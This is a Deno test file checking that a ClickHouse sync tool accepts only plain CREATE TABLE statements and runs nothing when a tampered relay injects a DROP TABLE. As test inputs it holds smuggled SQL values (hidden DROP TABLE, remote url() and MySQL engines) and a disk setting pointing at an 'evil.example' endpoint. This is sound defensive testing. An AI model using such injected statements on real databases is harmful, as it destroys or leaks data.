import assert from "node:assert/strict";
import { isPlainCreate } from "../../src/clickhouse/plain_create.ts";
import { checkSites, findingsOf, reasonsOf } from "../sites/check_sites.ts";
import { startAnswersRelay } from "../sites/answers_relay.ts";
import { everything, load, telemetryTable } from "../sites/telemetry.ts";
import { startTwoSites } from "../sites/two_sites.ts";

Deno.test("isPlainCreate() takes tables as ClickHouse prints them, and nothing else", () => {
  for (
    const statement of [
      "CREATE TABLE d.t (`a` UInt8) ENGINE = MergeTree ORDER BY a SETTINGS index_granularity = 8192",
      "CREATE TABLE `d.x`.`t'\\`--` (`a` String DEFAULT '); DROP TABLE x -- /*', CONSTRAINT c CHECK (a > 1), " +
      "PROJECTION p (SELECT a ORDER BY a)) ENGINE = ReplacingMergeTree(v) PARTITION BY toYYYYMM(ts) ORDER BY (a, b) " +
      "TTL ts + toIntervalDay(1) TO DISK 'cold' SETTINGS storage_policy = 'p' COMMENT 'AS SELECT'",
      "CREATE TABLE d.t (`a` UInt8) ENGINE = ReplicatedMergeTree('/t/{uuid}', '{replica}') ORDER BY tuple()",
    ]
  ) {
    assert.ok(isPlainCreate(statement), statement);
  }
  const table = "CREATE TABLE d.t (`a` UInt8) ENGINE = MergeTree ORDER BY a";
  for (
    const statement of [
      "",
      "DROP TABLE d.t",
      "DROP TABLE d.other -- CREATE TABLE d.t (`a` UInt8) ENGINE = MergeTree",
      `${table} AS SELECT * FROM url('http://x', 'CSV', 'a UInt8')`,
      `${table} /* ' */ AS SELECT 1 AS a -- '`,
      `${table} # ' \n AS SELECT 1 AS a`,
      `${table}; DROP TABLE d.u`,
      `${table} SETTINGS disk = disk(type = s3, endpoint = 'https://evil.example/')`,
      `${table} SETTINGS disk=disk (type = web)`,
      "CREATE TABLE d.t ENGINE = MergeTree ORDER BY a EMPTY AS SELECT 1 AS a",
      "CREATE TABLE d.t CLONE AS d.u ENGINE = MergeTree",
      "CREATE TABLE d.t AS d.u ENGINE = MergeTree",
      "CREATE TABLE d.t (`a` UInt8) ENGINE = URL('http://x')",
      "CREATE TABLE d.t (`a` UInt8) ENGINE = MySQL('h', 'd', 't', 'u', 'p')",
      "CREATE OR REPLACE TABLE d.t (`a` UInt8) ENGINE = MergeTree ORDER BY a",
      "CREATE TABLE t (`a` UInt8) ENGINE = MergeTree ORDER BY a",
      "CREATE MATERIALIZED VIEW d.v (`a` UInt8) ENGINE = MergeTree ORDER BY a AS SELECT 1 AS a",
      "CREATE TABLE d.t (`a` String DEFAULT 'x ENGINE = MergeTree",
      "CREATE TABLE d.t (`a` UInt8 ENGINE = MergeTree",
    ]
  ) {
    assert.ok(!isPlainCreate(statement), statement);
  }
});

Deno.test("a site that gives another statement for a new table gets none run here", async () => {
  await using sites = await startTwoSites();
  const { primary, dr } = sites;
  await primary.query("CREATE DATABASE d");
  await primary.query(telemetryTable("d.made"));
  await dr.query("CREATE DATABASE d");
  await dr.query(telemetryTable("d.here"));
  await load(dr, "d.here", "2026-01-01", 10);
  const before = await everything(dr);
  await using relay = startAnswersRelay(
    primary.url,
    (_statement, answer) =>
      answer.replaceAll("CREATE TABLE d.made", "DROP TABLE d.here -- CREATE TABLE d.made"),
  );
  const settings = { remote: { ...primary.endpoint, url: relay.url }, autoCreateTables: true };
  const report = await checkSites(sites, { settings });
  assert.equal(reasonsOf(report)["d.made"], "new");
  assert.match(findingsOf(report)[0]!.detail, /not a plain CREATE TABLE/);
  assert.equal(await everything(dr), before);
});
